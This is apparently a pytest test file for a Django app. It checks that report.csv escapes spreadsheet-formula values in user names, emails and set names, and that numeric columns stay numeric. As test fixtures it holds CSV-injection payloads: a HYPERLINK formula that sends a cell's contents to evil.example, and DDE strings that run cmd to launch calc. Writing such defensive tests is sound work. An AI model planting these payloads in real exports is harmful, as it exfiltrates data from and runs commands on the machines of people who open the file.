"""CSV injection: names and set names that a spreadsheet would run as formulas come out of report.csv as text
(core/spreadsheet.py), and the numbers stay numbers."""

import csv
import io

import pytest
import time_machine
from django.urls import reverse

from accounts.models import User
from core.spreadsheet import safe_cell
from sets.models import LearningSet
from tests.reports import world as hand

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+1+cmd|' /C calc'!A0"
SET_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world():
    with time_machine.travel(hand.NOW, tick=False):
        yield hand.build()


def report_csv(client, world) -> list[dict]:
    client.force_login(world.admin)
    path = reverse("reports:report-csv", args=[world.organisation.slug])
    response = client.get(f"{path}?start=2026-04-01&end=2026-06-30")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_formulas_in_names_and_set_names_come_out_as_text(client, world):
    people = world.people
    User.objects.filter(pk=people["a1"].pk).update(full_name=HYPERLINK)
    User.objects.filter(pk=people["a2"].pk).update(full_name=DDE)
    User.objects.filter(pk=people["a3"].pk).update(full_name="-2+3")
    User.objects.filter(pk=people["b1"].pk).update(full_name="\t=1+1")
    User.objects.filter(pk=people["b2"].pk).update(full_name="", email="=cmd@example.org")  # the email stands in
    LearningSet.objects.filter(pk=world.alpha.pk).update(name=SET_NAME)

    rows = {row["person"]: row for row in report_csv(client, world)}

    # The value as typed, with a single quote in front (the csv module quotes the cell and doubles its quotes).
    assert set(rows) >= {"'" + HYPERLINK, "'" + DDE, "'-2+3", "'\t=1+1", "'=cmd@example.org"}
    assert rows["'" + HYPERLINK]["set"] == "'" + SET_NAME
    assert rows["'=cmd@example.org"]["email"] == "'=cmd@example.org"
    # Nothing in the file begins like a formula, in any cell.
    assert not [cell for row in rows.values() for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
    # Names that are not formulas are untouched.
    assert rows["Person FA"]["set"] == "'" + SET_NAME and rows["Person FB"]["set"] == "Beta"


def test_the_number_columns_stay_numbers(client, world):
    rows = report_csv(client, world)
    a2 = next(row for row in rows if row["person"] == "Person A2")
    assert int(a2["set_id"]) == world.alpha.pk
    assert (a2["meetings_expected"], a2["present"], a2["attendance_rate"]) == ("3", "1", "33.3")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is text: only our own numbers are numbers
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ('say "hi" = fine', 'say "hi" = fine'),
        ("Alpha", "Alpha"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (-33.3, -33.3),
        (0, 0),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_the_report_page_says_how_such_names_are_written(client, world):
    client.force_login(world.admin)
    content = client.get(reverse("reports:report", args=[world.organisation.slug])).content.decode()
    assert "begins like a spreadsheet formula" in content
